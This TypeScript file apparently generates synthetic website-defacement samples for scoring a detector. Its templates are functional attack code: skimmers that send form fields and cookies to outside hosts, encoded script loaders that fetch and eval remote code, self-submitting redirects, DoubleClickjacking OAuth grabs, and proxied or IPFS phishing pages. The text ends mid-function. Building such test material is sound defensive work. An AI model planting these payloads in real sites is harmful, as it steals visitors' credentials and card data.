/**
 * Fresh10 defacement classes: written after fresh9, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimmers and loaders (Google Apps Script exfiltration, inline handlers on
 * the site's own fields, data: URL and char-code loaders, scripts dropped
 * into the site's own uploads folder), redirect and link tricks (self-
 * submitting POST forms, Google Translate and AMP proxies, user-info and
 * numeric-IP URLs, DoubleClickjacking), content hidden by the browser's own
 * default styles (closed dialogs, collapsed details, popovers), identifier
 * swaps hidden in encodings (numeric character references, right-to-left
 * overrides, a number drawn in a picture, an ENS name, run-time text
 * rewriting), scam verticals not used before (parcel redelivery fees, hotel
 * re-confirmation, puppy adoption, 419 inheritance letters, "safe account"
 * transfers, IPFS-hosted webmail phishing) and defacer messages in new forms
 * (binary or Morse text, speech synthesis, a time bomb, a Telegram post
 * widget, form placeholders, one CSS rule redrawing every image, a tag in the
 * site's own footer line). Each differs from every class in defacements.ts
 * and fresh-defacements.ts through fresh9-defacements.ts (not a re-wording
 * of one) and varies its templates, languages, domains, positions and sizes.
 * The writer had no internet access: every source below is recalled from
 * memory, with its outlet and an approximate date, and its comment says so.
 * Scored in the `fresh10` group, never tuned on.
 */
import { type ChangeClass, attrTargets, bottom, brandName, elAt, evil, forms, head, lineAfter, resolve, scriptSpot, setAttr, shown, siteOr, textRuns, top, trimmed } from "./classes.js"
import { type Page, makeBank } from "./corpus.js"
import { b64, jsUrl, links } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate, swapPhone } from "./locales.js"
import type { El, Range } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { boast, brandLookalike, libLookalike, nick, political, randomDomain, signature, slug, team } from "./words.js"

const fresh10 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh10", make })

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script>${pick(rng, [() => code, () => code, () => `eval(atob("${b64(code)}"))`, () => `(new Function(atob("${b64(code)}")))()`])()}</script>`
const charsOf = (rng: Rng, chars: string, n: number) => Array.from({ length: n }, () => chars[int(rng, chars.length)]).join("")
const b64url = (rng: Rng, n: number) => charsOf(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", n)
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com", "gmx.com", "mail.com"])
const sinkHost = (rng: Rng, page: Page) => pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
/** Any message a defacer signs with. */
const message = (rng: Rng, who: string) => pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => political(rng).text])()

/** Occurrences of `needle` in the shown body text, with the link each sits in (if any). */
const hitsOf = (page: Page, needle: string): Array<{ readonly range: Range; readonly link: El | undefined }> => {
  const out: Array<{ range: Range; link: El | undefined }> = []
  if (needle.length === 0) return out
  for (const run of page.spots.texts) {
    const parent = elAt(page, run.parent)
    if (parent !== undefined && (!parent.shown || parent.inert)) continue
    const raw = page.html.slice(run.start, run.end)
    let link: El | undefined
    for (let e = parent; e !== undefined; e = elAt(page, e.parent)) if (e.name === "a") { link = e; break }
    for (let i = raw.indexOf(needle); i !== -1; i = raw.indexOf(needle, i + needle.length)) {
      out.push({ range: { start: run.start + i, end: run.start + i + needle.length }, link })
    }
  }
  return out
}
/** Whether `el` sits inside an element named `name` (the nearest such ancestor). */
const within = (page: Page, el: El, name: string): El | undefined => {
  for (let e = elAt(page, el.parent); e !== undefined; e = elAt(page, e.parent)) if (e.name === name) return e
  return undefined
}
/** Shown text-entry fields of the page (what a visitor types into). */
const typedFields = (page: Page): Array<El> =>
  shown(page, "input", (e) => !e.inert && !/^(hidden|submit|button|image|reset|checkbox|radio|file|range|color)$/i.test(e.attribs.type ?? "text"))

// Google Apps Script as an exfiltration endpoint, recalled from memory of Sansec's finding (reported by BleepingComputer, November 2020) that Magecart skimmers on Magento stores sent stolen card data to script.google.com "web apps", so the traffic went to a Google domain that content-security policies and blocklists allowed; Apps Script endpoints have since been seen in phishing kits too.
const appsScriptSkimmer = fresh10("skimmer posting form fields to a Google Apps Script web app (script.google.com/macros)", (page, rng) => {
  const id = `AKfycb${b64url(rng, between(rng, 58, 80))}`
  const url = pick(rng, [`https://script.google.com/macros/s/${id}/exec`, `https://script.google.com/macros/s/${id}/exec`, `https://script.google.com/a/macros/${alnum(rng, 7)}.com/s/${id}/exec`])
  const target = jsUrl(rng, url)
  const collect = `var d={};[].forEach.call(document.querySelectorAll("input,select"),function(i){if(i.value&&!/hidden|submit|button/.test(i.type))d[i.name||i.id||"f"+Math.random()]=i.value});d.u=location.href;`
  const send = pick(rng, [
    `fetch(${target},{method:"POST",mode:"no-cors",headers:{"Content-Type":"text/plain"},body:JSON.stringify(d)})`,
    `navigator.sendBeacon(${target},new URLSearchParams(d))`,
    `new Image().src=${target}+"?p="+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(d)))))`,
    `var f=document.createElement("iframe");f.name="g${alnum(rng, 5)}";f.style.display="none";document.body.appendChild(f);var m=document.createElement("form");m.method="POST";m.action=${target};m.target=f.name;for(var k in d){var i=document.createElement("input");i.name=k;i.value=d[k];m.appendChild(i)}document.body.appendChild(m);m.submit()`
  ])
  const hook = pick(rng, [
    `document.addEventListener("submit",function(){${collect}${send}},true);`,
    `document.addEventListener("click",function(e){var b=e.target.closest&&e.target.closest("button,[type=submit],.checkout,#place-order");if(!b)return;${collect}${send}},true);`,
    `var t;document.addEventListener("change",function(){clearTimeout(t);t=setTimeout(function(){${collect}if(Object.keys(d).length>1){${send}}},${between(rng, 800, 4000)})},true);`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, `(function(){${hook}})();`)))
})

// Skimming code in inline event-handler attributes of the page's own fields, recalled from memory with uncertain attribution of OWASP's XSS filter-evasion cheat sheet (every on* attribute is a script carrier) and of Sucuri and Sansec clean-up notes on injections that add handlers to existing markup instead of a script tag: each field the visitor types into reports its value to another host as soon as it changes or loses focus.
const inputHandlerSkimmer = fresh10("site's own form fields given onchange or onblur attributes that send what is typed to another host", (page, rng) => {
  const sink = `https://${sinkHost(rng, page)}/${pick(rng, ["p.gif", "i", "c.php", "px", "t/" + alnum(rng, 4), "log"])}`
  const handler = pick(rng, [
    `new Image().src='${sink}?'+this.name+'='+encodeURIComponent(this.value)`,
    `navigator.sendBeacon('${sink}',this.name+'='+this.value)`,
    `fetch('${sink}?k='+btoa(this.name+':'+this.value),{mode:'no-cors'})`,
    `(new Image).src=atob('${b64(sink)}')+'?'+escape(this.name)+'='+escape(this.value)+'&h='+location.host`
  ])
  const event = pick(rng, ["onchange", "onblur", "oninput", "onkeyup", "onfocusout"])
  const fields = typedFields(page)
  const chosen = chance(rng, 0.6) ? fields : sample(rng, fields, Math.max(1, Math.ceil(fields.length / 2)))
  const out: Array<Splice> = chosen.map((f) => setAttr(page, f, event, handler))
  const fs = forms(page)
  if (fs.length > 0 && (out.length === 0 || chance(rng, 0.3))) {
    out.push(setAttr(page, fs[0]!, "onsubmit", `var d=[];for(var i=0;i<this.elements.length;i++){var e=this.elements[i];if(e.value)d.push(e.name+'='+e.value)}navigator.sendBeacon('${sink}',d.join('&'))`))
  }
  if (out.length === 0) {
    const a = links(page)[0]
    if (a !== undefined) out.push(setAttr(page, a, "onmousedown", `new Image().src='${sink}?c='+encodeURIComponent(document.cookie)`))
    else out.push(insert(anySlot(rng, page.spots), `<input type="email" name="email" ${event}="${esc(handler)}">`))
  }
  return { splices: out }
})

// Redirects made by a form that submits itself, recalled from memory with uncertain details of traffic-distribution and phishing chains that hop by a POST instead of a Location header or a location change (so the destination is not in a link, a meta refresh or a script URL), and of the same self-submitting form that OWASP's CSRF pages describe: a hidden form to another host, submitted on load.
const autoPostRedirect = fresh10("hidden form to another host submitted on load (redirect by POST)", (page, rng) => {
  const url = `https://${evil(rng, page)}/${pick(rng, ["go", "in.php", "r/" + alnum(rng, 5), "landing", "tds/post", "index.php?" + alnum(rng, 4)])}`
  const id = `${pick(rng, ["f", "frm", "r", "x"])}${alnum(rng, 6)}`
  const fields = [
    `<input type="hidden" name="${pick(rng, ["ref", "src", "site", "from"])}" value="${esc(page.site.host)}">`,
    `<input type="hidden" name="${pick(rng, ["sid", "cid", "k", "campaign"])}" value="${alnum(rng, between(rng, 8, 16))}">`,
    ...(chance(rng, 0.4) ? [`<input type="hidden" name="${pick(rng, ["lang", "geo", "t"])}" value="${pick(rng, [page.site.locale.lang, page.site.locale.country, digits(rng, 6)])}">`] : [])
  ].join("")
  const form = `<form id="${id}" name="${id}" method="post" action="${url}"${chance(rng, 0.4) ? ` target="_top"` : ""} style="${pick(rng, ["display:none", "position:absolute;left:-9999px", "height:0;overflow:hidden"])}">${fields}</form>`
  const cond = pick(rng, ["", "", `if(!/bot|crawl|spider|lighthouse/i.test(navigator.userAgent))`, `if(document.referrer&&document.referrer.indexOf(location.hostname)<0)`])
  const trigger = pick(rng, [
    () => `<script>${cond}document.getElementById("${id}").submit()</script>`,
    () => `<script>${cond}setTimeout(function(){document.forms["${id}"].submit()},${between(rng, 0, 2500)})</script>`,
    () => `<script>window.addEventListener("load",function(){${cond}HTMLFormElement.prototype.submit.call(document.getElementById("${id}"))})</script>`,
    () => `<img src="data:," alt="" style="display:none" onerror="document.getElementById('${id}').submit()">`
  ])()
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), form + trigger))
})

// Script tags whose source is a data: URL, recalled from memory with uncertain details of Sucuri blog posts on WordPress infections (about 2022–2023) showing `<script src="data:text/javascript;base64,...">`: the loader, redirect or skimmer travels inside the attribute, so the tag names no host and no inline script text appears.
const dataUriScript = fresh10("script whose src is a base64 data: URL carrying a loader, redirect or skimmer", (page, rng) => {
  const host = sinkHost(rng, page)
  const code = pick(rng, [
    `(function(){var s=document.createElement("script");s.src="https://${host}/${pick(rng, ["js/jquery.min.js", "lib/" + alnum(rng, 6) + ".js", "cdn/app.js", "s.js?v=" + digits(rng, 4)])}";s.async=true;document.head.appendChild(s)})();`,
    `if(!/bot|crawl|spider/i.test(navigator.userAgent)&&document.referrer&&document.referrer.indexOf(location.hostname)<0){location.href="https://${host}/?r="+encodeURIComponent(location.hostname)}`,
    `document.addEventListener("submit",function(e){var o={};new FormData(e.target).forEach(function(v,k){o[k]=v});navigator.sendBeacon("https://${host}/c",JSON.stringify(o))},true);`
  ])
  const src = pick(rng, [
    `data:text/javascript;base64,${b64(code)}`, `data:text/javascript;base64,${b64(code)}`,
    `data:application/javascript;base64,${b64(code)}`, `data:text/javascript;charset=utf-8,${encodeURIComponent(code)}`
  ])
  const tag = pick(rng, [`<script src="${src}"></script>`, `<script defer src="${src}"></script>`, `<script type="text/javascript" src="${src}" async></script>`])
  return splices(insert(scriptSpot(rng, page), tag))
})

const baladaWords = ["line", "stable", "script", "get", "light", "way", "trend", "promo", "stay", "dest", "track", "best", "sun", "dance", "platform", "collect", "static", "go"]
const charCodes = (s: string, shift = 0) => [...s].map((c) => c.charCodeAt(0) + shift).join(",")

// Char-code encoded injections, recalled from memory of Sucuri's write-ups on the Balada Injector campaign (Denis Sinegubko, 2022–2023, over a million WordPress sites infected through plugin bugs) and Doctor Web's Linux.BackDoor.WordPressExploit report (December 2022): the injected script is written as String.fromCharCode numbers (sometimes shifted by a key), so neither a host name nor a keyword appears in the page, and it loads code from domains built of ordinary words.
const charCodeLoader = fresh10("inline loader spelled out as String.fromCharCode numbers (Balada Injector)", (page, rng) => {
  const host = chance(rng, 0.6)
    ? `${pick(rng, ["stat", "trend", "stay", "dest", "cdn", "collect", "track", "js"])}.${pick(rng, baladaWords)}${pick(rng, baladaWords)}${pick(rng, ["", "s", "way", "to"])}.${pick(rng, ["com", "org", "info", "net"])}`
    : randomDomain(rng)
  const url = `https://${host}/${pick(rng, ["scripts/check.js", "stat.js?v=" + digits(rng, 4), "t.js", "?t=" + between(rng, 1, 9) + "&u=" + alnum(rng, 6), alnum(rng, 8) + ".js"])}`
  const code = pick(rng, [
    `var s=document.createElement("script");s.src="${url}";s.async=true;document.getElementsByTagName("head")[0].appendChild(s);`,
    `if(document.cookie.indexOf("_${alnum(rng, 3)}=")<0&&!/bot|crawl/i.test(navigator.userAgent)){document.cookie="_${alnum(rng, 3)}=1;max-age=86400;path=/";window.location.href="${url}"}`,
    `var x=new XMLHttpRequest();x.open("GET","${url}",true);x.onload=function(){(0,eval)(x.responseText)};x.send();`
  ])
  const k = between(rng, 1, 9)
  const script = pick(rng, [
    () => `<script>eval(String.fromCharCode(${charCodes(code)}))</script>`,
    () => `<script>(function(a,k){var s="";for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]-k);Function(s)()})([${charCodes(code, k)}],${k})</script>`,
    () => { const v = `${pick(rng, ["_0x", "a", "s", "_p"])}${hex(rng, 4)}`; return `<script>(function(){var ${v}=document.createElement(String.fromCharCode(${charCodes("script")}));${v}.src=String.fromCharCode(${charCodes(url)});document.getElementsByTagName(String.fromCharCode(${charCodes("head")}))[0].appendChild(${v})})()</script>` },
    () => `<img src="data:," alt="" style="display:none" onerror="eval(String.fromCharCode(${charCodes(code)}))">`
  ])()
  return splices(insert(pick(rng, [head(page), head(page), top(page), bottom(page), slotAt(page.spots, "middle")]), script))
})

const signInWords: Record<Lang, string> = {
  en: "Sign in to your account", fr: "Connectez-vous à votre compte", de: "Melden Sie sich bei Ihrem Konto an", es: "Inicie sesión en su cuenta",
  nl: "Log in op uw account", pt: "Entre na sua conta", it: "Accedi al tuo account"
}

/** `host` as Google's proxies write it in a subdomain label: "-" doubled, "." turned into "-". */
const proxyLabel = (host: string) => host.replace(/-/g, "--").replace(/\./g, "-")

// Phishing links wrapped in Google's own proxies, recalled from memory of Avanan (Check Point) reports (about 2022) on phishing pages served through Google Translate's proxy (*.translate.goog), and Cofense's report (July 2023) on phishing links using Google AMP URLs (google.com/amp/s/… and *.cdn.ampproject.org): the link's host is Google's, the page is the attacker's. Here the site's own sign-in, account or donation links, or a few others, are rewritten that way; their text stays.
const proxiedLinks = fresh10("site's links rewritten through Google Translate or AMP proxy URLs to a look-alike page", (page, rng) => {
  const host = pick(rng, [`${page.site.brand}-${pick(rng, ["login", "account", "secure", "members", "verify"])}.${pick(rng, ["com", "net", "info", "online"])}`, brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const lang = page.site.locale.lang
  const wrap = (path: string) => pick(rng, [
    () => `https://${proxyLabel(host)}.translate.goog/${path}?_x_tr_sl=auto&_x_tr_tl=${lang}&_x_tr_hl=${lang}${chance(rng, 0.5) ? "&_x_tr_pto=wapp" : ""}`,
    () => `https://${proxyLabel(host)}.translate.goog/${path}?_x_tr_sl=${pick(rng, ["en", "auto"])}&_x_tr_tl=${pick(rng, ["en", lang])}`,
    () => `https://www.google.com/amp/s/${host}/${path}`,
    () => `https://${proxyLabel(host)}.cdn.ampproject.org/c/s/${host}/${path}`
  ])()
  const path = () => pick(rng, ["login", "account/verify", "signin", "secure/" + alnum(rng, 6), "donate", "checkout", "index.html"])
  const all = attrTargets(page, links(page), "href")
  const keyed = all.filter((t) => /log.?in|sign|account|member|\/my|donat|pay|shop|cart|subscri|contact|abonn|konto|cuenta|conta/i.test(page.html.slice(t.value.start, t.value.end) + (t.el.attribs.title ?? "")))
  const chosen = keyed.length > 0 && chance(rng, 0.7) ? sample(rng, keyed, between(rng, 1, 4)) : sample(rng, all, between(rng, 1, 3))
  const out: Array<Splice> = chosen.map((t) => replace(t.value, esc(wrap(path()))))
  if (out.length === 0) out.push(insert(top(page), `<p><a href="${esc(wrap(path()))}">${esc(siteOr(rng, page, signInWords))}</a></p>`))
  return { splices: out }
})

const mailboxWords: Record<Lang, readonly [string, (p: number, d: string) => string, string, string]> = {
  en: ["Mailbox storage almost full", (p, d) => `Your mailbox has used ${p}% of its storage. From ${d}, new messages will be returned to the sender. Validate your account to receive 50 GB of extra storage free of charge.`, "Validate my mailbox", "IT Service Desk"],
  fr: ["Espace de messagerie presque plein", (p, d) => `Votre boîte aux lettres utilise ${p} % de son espace. À partir du ${d}, les nouveaux messages seront renvoyés à l'expéditeur. Validez votre compte pour obtenir gratuitement 50 Go supplémentaires.`, "Valider ma boîte", "Support informatique"],
  de: ["Postfach fast voll", (p, d) => `Ihr Postfach ist zu ${p} % belegt. Ab dem ${d} werden neue Nachrichten an den Absender zurückgeschickt. Bestätigen Sie Ihr Konto, um kostenlos 50 GB zusätzlichen Speicher zu erhalten.`, "Postfach bestätigen", "IT-Servicedesk"],
  es: ["Buzón casi lleno", (p, d) => `Su buzón ha utilizado el ${p} % de su espacio. A partir del ${d}, los mensajes nuevos se devolverán al remitente. Valide su cuenta para recibir 50 GB adicionales gratis.`, "Validar mi buzón", "Soporte informático"],
  nl: ["Mailbox bijna vol", (p, d) => `Uw mailbox heeft ${p}% van de opslag gebruikt. Vanaf ${d} worden nieuwe berichten teruggestuurd naar de afzender. Valideer uw account om gratis 50 GB extra opslag te krijgen.`, "Mailbox valideren", "IT-servicedesk"],
  pt: ["Caixa de correio quase cheia", (p, d) => `Sua caixa de correio usou ${p}% do espaço. A partir de ${d}, novas mensagens serão devolvidas ao remetente. Valide sua conta para receber 50 GB extras gratuitamente.`, "Validar minha caixa", "Suporte de TI"],
  it: ["Casella di posta quasi piena", (p, d) => `La tua casella ha usato il ${p}% dello spazio. Dal ${d} i nuovi messaggi saranno respinti al mittente. Convalida il tuo account per ricevere gratis 50 GB aggiuntivi.`, "Convalida la casella", "Assistenza informatica"]
}

// Phishing pages hosted on IPFS, recalled from memory of Trustwave SpiderLabs (July 2022) and Cisco Talos (November 2022) reports: webmail credential pages published on the InterPlanetary File System and linked through public gateways (ipfs.io, dweb.link, Cloudflare's and Pinata's gateways), so that no server can be taken down; the usual lure is "your mailbox is almost full". Here that notice appears on the site, signed as its own IT desk.
const ipfsMailboxPhish = fresh10("'your mailbox is almost full' notice linking to a webmail phishing page on an IPFS gateway", (page, rng) => {
  const [h, p, cta, desk] = siteOr(rng, page, mailboxWords)
  const pct = between(rng, 95, 99)
  const v1 = `bafybei${charsOf(rng, "abcdefghijklmnopqrstuvwxyz234567", 52)}`
  const cid = chance(rng, 0.5) ? `Qm${base58(rng, 44)}` : v1
  const file = chance(rng, 0.6) ? `?filename=${pick(rng, ["index.html", "webmail.html", "owa.html", "mail-upgrade.html"])}` : ""
  const href = pick(rng, [
    `https://ipfs.io/ipfs/${cid}${file}`, `https://cloudflare-ipfs.com/ipfs/${cid}${file}`, `https://${v1}.ipfs.dweb.link/${file}`,
    `https://gateway.pinata.cloud/ipfs/${cid}${file}`, `https://${v1}.ipfs.w3s.link/${file}`, `https://${alnum(rng, 8)}.mypinata.cloud/ipfs/${cid}`
  ])
  const bar = `<div style="background:#ddd;width:260px;height:10px;margin:8px 0"><div style="background:#d9534f;width:${pct}%;height:10px"></div></div>`
  const box = `<div class="${pick(rng, ["mail-quota", "it-notice", "webmail-alert"])}" style="border:1px solid #c9302c;background:#fff6f6;padding:12px 16px;margin:10px 0;font-family:Segoe UI,Arial,sans-serif"><strong>✉ ${esc(h)}</strong>${bar}<p>${esc(p(pct, page.site.locale.date(someDate(rng))))}</p><p><a href="${esc(href)}" style="background:#0067b8;color:#fff;padding:6px 14px;text-decoration:none">${esc(cta)}</a></p><p><small>${esc(brandName(page))} ${esc(desk)}</small></p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

const hiddenSpamTopics: ReadonlyArray<readonly [string, string]> = [
  ["buy-cialis", "buy cialis online"], ["no-deposit-bonus", "casino no deposit bonus"], ["payday-loan", "payday loans same day"],
  ["replica-rolex", "replica rolex"], ["tramadol", "tramadol without prescription"], ["ozempic", "ozempic without prescription"],
  ["crypto-casino", "crypto casino"], ["slot-online", "slot online terpercaya"], ["bahis", "deneme bonusu veren siteler"],
  ["kredit", "kredit ohne schufa"], ["casino-en-ligne", "casino en ligne fiable"], ["apuestas", "casas de apuestas sin licencia"],
  ["scommesse", "siti scommesse non aams"], ["goksites", "online casino zonder cruks"]
]

// Spam hidden by the browser's own default styles rather than by CSS, recalled from memory of Google Search Central's hidden-text spam policy and Sucuri clean-up guides (hidden links are the commonest SEO-spam injection), and of the HTML elements whose content a browser does not render until asked: a dialog without `open`, a collapsed details element behind an innocuous summary, and the popover attribute (HTML, 2023). No display:none or off-screen rule appears anywhere.
const closedDialogSpam = fresh10("SEO spam links in a closed dialog, a collapsed details element or a popover (hidden by default styles)", (page, rng) => {
  const items = sample(rng, hiddenSpamTopics, between(rng, 3, 9)).map(([s, words]) =>
    `<a href="https://${pick(rng, [`${s}-${between(rng, 2, 99)}.${pick(rng, ["com", "net", "xyz", "site", "top", "online"])}`, randomDomain(rng)])}/${pick(rng, ["", s, "?ref=" + alnum(rng, 5)])}">${esc(words)}</a>`)
  const inner = items.join(pick(rng, [" ", " | ", ", ", "<br>"]))
  const cls = pick(rng, ["widget", "tags", "partners", "more", "x-" + alnum(rng, 4)])
  const block = pick(rng, [
    () => `<dialog class="${cls}">${inner}</dialog>`,
    () => `<dialog id="${alnum(rng, 6)}"><p>${inner}</p></dialog>`,
    () => `<details class="${cls}"><summary>${pick(rng, ["·", "…", "Tags", "More", "+", "Partners"])}</summary><p>${inner}</p></details>`,
    () => `<div popover id="${pick(rng, ["p", "pop", "menu"])}${alnum(rng, 5)}">${inner}</div>`,
    () => `<div hidden="until-found">${inner}</div>`
  ])()
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), top(page)]), block))
})

const doubleClickWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Verify you are human", "Double-click the button below to continue to the page.", "Double-click here"],
  fr: ["Vérifiez que vous êtes humain", "Double-cliquez sur le bouton ci-dessous pour accéder à la page.", "Double-cliquez ici"],
  de: ["Bestätigen Sie, dass Sie ein Mensch sind", "Doppelklicken Sie auf die Schaltfläche unten, um zur Seite zu gelangen.", "Hier doppelklicken"],
  es: ["Verifique que es humano", "Haga doble clic en el botón de abajo para continuar.", "Doble clic aquí"],
  nl: ["Bevestig dat u een mens bent", "Dubbelklik op de knop hieronder om door te gaan.", "Hier dubbelklikken"],
  pt: ["Confirme que você é humano", "Clique duas vezes no botão abaixo para continuar.", "Clique duas vezes aqui"],
  it: ["Verifica di essere umano", "Fai doppio clic sul pulsante qui sotto per continuare.", "Doppio clic qui"]
}
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`

// DoubleClickjacking, recalled from memory of Paulos Yibelo's write-up (his blog, late December 2024; covered by BleepingComputer in January 2025): a page asks for a double-click in a small window it opened; the first press of the mouse switches the original window to a sensitive page (an OAuth consent screen for the attacker's application, an account-settings button) and closes the small window, so the second click of the double-click lands on "Allow". Frame protections do not help because nothing is framed.
const doubleClickjacking = fresh10("'double-click to verify' prompt whose first click swaps the window to an OAuth consent screen (DoubleClickjacking)", (page, rng) => {
  const [h, p, label] = siteOr(rng, page, doubleClickWords)
  const cb = `https://${evil(rng, page)}/${pick(rng, ["cb", "auth/callback", "oauth", "redirect"])}`
  const auth = pick(rng, [
    `https://accounts.google.com/o/oauth2/v2/auth?client_id=${digits(rng, 12)}-${alnum(rng, 32)}.apps.googleusercontent.com&redirect_uri=${encodeURIComponent(cb)}&response_type=code&scope=${encodeURIComponent("https://mail.google.com/ https://www.googleapis.com/auth/drive")}&prompt=consent&access_type=offline`,
    `https://github.com/login/oauth/authorize?client_id=Iv1.${hex(rng, 16)}&scope=${encodeURIComponent("repo admin:org workflow")}&redirect_uri=${encodeURIComponent(cb)}`,
    `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${uuid(rng)}&response_type=code&scope=${encodeURIComponent("offline_access Mail.Read Files.ReadWrite.All")}&redirect_uri=${encodeURIComponent(cb)}`,
    `https://slack.com/oauth/v2/authorize?client_id=${digits(rng, 12)}.${digits(rng, 13)}&scope=${encodeURIComponent("channels:history,files:read,users:read.email")}&redirect_uri=${encodeURIComponent(cb)}`
  ])
  const id = `dc${alnum(rng, 6)}`
  const popup = `<body style="font-family:Arial;text-align:center;padding-top:40px"><p>${esc(p)}</p><button style="font-size:18px;padding:10px 30px">${esc(label)}</button></body>`
  const code = `(function(){var b=document.getElementById("${id}");b.addEventListener("click",function(e){e.preventDefault();var w=window.open("about:blank","${alnum(rng, 4)}","width=${between(rng, 380, 520)},height=${between(rng, 200, 300)},top=${between(rng, 150, 300)},left=${between(rng, 300, 600)}");if(!w)return;w.document.write(${js(popup)});w.document.close();w.document.addEventListener("mousedown",function(){window.location.href=${jsUrl(rng, auth)};setTimeout(function(){w.close()},${between(rng, 20, 90)})})})})();`
  const box = `<div class="${pick(rng, ["verify-box", "human-check", "cf-check"])}" style="${chance(rng, 0.5) ? `position:fixed;inset:0;z-index:${zIndex(rng)};background:rgba(255,255,255,.96);padding-top:25vh;` : "padding:16px;margin:12px 0;border:1px solid #ccc;"}text-align:center;font-family:Arial,sans-serif"><h2>${esc(h)}</h2><p>${esc(p)}</p><button type="button" id="${id}" style="font-size:18px;padding:10px 30px">${esc(label)}</button></div>`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), box + wrapScript(rng, code)))
})

const carriers: Record<string, ReadonlyArray<string>> = {
  us: ["USPS", "UPS", "FedEx"], uk: ["Royal Mail", "Evri", "DPD"], fr: ["La Poste", "Colissimo", "Chronopost"], de: ["DHL", "Hermes", "Deutsche Post"],
  es: ["Correos", "SEUR"], nl: ["PostNL", "DHL"], au: ["Australia Post", "StarTrack"], in: ["India Post", "Blue Dart"], br: ["Correios", "Jadlog"], it: ["Poste Italiane", "BRT"]
}
const parcelWords: Record<Lang, readonly [string, (c: string, t: string, f: string) => string, string, string, string, string]> = {
  en: ["Your parcel is on hold", (c, t, f) => `${c}: we tried to deliver parcel ${t} but the address was incomplete. Pay the ${f} redelivery fee within 48 hours or the parcel will be returned to the sender.`, "Full name", "Delivery address", "Card number", "Pay and reschedule"],
  fr: ["Votre colis est en attente", (c, t, f) => `${c} : nous n'avons pas pu livrer le colis ${t}, l'adresse étant incomplète. Réglez les frais de nouvelle livraison de ${f} sous 48 heures, sinon le colis sera renvoyé à l'expéditeur.`, "Nom complet", "Adresse de livraison", "Numéro de carte", "Payer et reprogrammer"],
  de: ["Ihr Paket wird zurückgehalten", (c, t, f) => `${c}: Die Zustellung der Sendung ${t} war nicht möglich, weil die Adresse unvollständig ist. Zahlen Sie die Gebühr für die erneute Zustellung von ${f} innerhalb von 48 Stunden, sonst geht das Paket an den Absender zurück.`, "Vollständiger Name", "Lieferadresse", "Kartennummer", "Bezahlen und neu zustellen"],
  es: ["Su paquete está retenido", (c, t, f) => `${c}: no pudimos entregar el envío ${t} porque la dirección estaba incompleta. Pague la tasa de reenvío de ${f} en 48 horas o el paquete se devolverá al remitente.`, "Nombre completo", "Dirección de entrega", "Número de tarjeta", "Pagar y reprogramar"],
  nl: ["Uw pakket staat in de wacht", (c, t, f) => `${c}: we konden pakket ${t} niet bezorgen omdat het adres onvolledig was. Betaal binnen 48 uur de herbezorgkosten van ${f}, anders gaat het pakket terug naar de afzender.`, "Volledige naam", "Bezorgadres", "Kaartnummer", "Betalen en opnieuw plannen"],
  pt: ["Sua encomenda está retida", (c, t, f) => `${c}: não conseguimos entregar a encomenda ${t} porque o endereço estava incompleto. Pague a taxa de reentrega de ${f} em até 48 horas ou a encomenda será devolvida ao remetente.`, "Nome completo", "Endereço de entrega", "Número do cartão", "Pagar e reagendar"],
  it: ["Il tuo pacco è in giacenza", (c, t, f) => `${c}: non siamo riusciti a consegnare la spedizione ${t} perché l'indirizzo era incompleto. Paga la tassa di riconsegna di ${f} entro 48 ore, altrimenti il pacco sarà restituito al mittente.`, "Nome e cognome", "Indirizzo di consegna", "Numero della carta", "Paga e riprogramma"]
}

// Parcel-redelivery fee phishing, recalled from memory of Royal Mail's and Which?'s scam warnings (2020–2021), the FTC's and USPS's warnings about "USPS redelivery" texts, and Resecurity's report on the "Smishing Triad" kits (2023) imitating postal services in dozens of countries: a small fee for a parcel "on hold" collects a card number. Here the notice, naming the country's carrier, sits on the site with a card form posting elsewhere.
const parcelFee = fresh10("'your parcel is on hold: pay the redelivery fee' card form naming the national carrier", (page, rng) => {
  const [h, p, name, addr, card, cta] = siteOr(rng, page, parcelWords)
  const carrier = pick(rng, carriers[page.site.locale.country] ?? carriers.us!)
  const track = `${upper(rng, 2)}${digits(rng, 9)}${page.site.locale.country.toUpperCase().slice(0, 2)}`
  const fee = page.site.locale.money(pick(rng, [1.99, 2.49, 2.99, 3.49, 1.45]))
  const host = `${slug(carrier).replace(/-/g, "")}-${pick(rng, ["redelivery", "tracking", "parcel", "delivery", "support"])}${pick(rng, ["", "-" + alnum(rng, 3)])}.${pick(rng, ["com", "top", "info", "online", "icu", "xyz"])}`
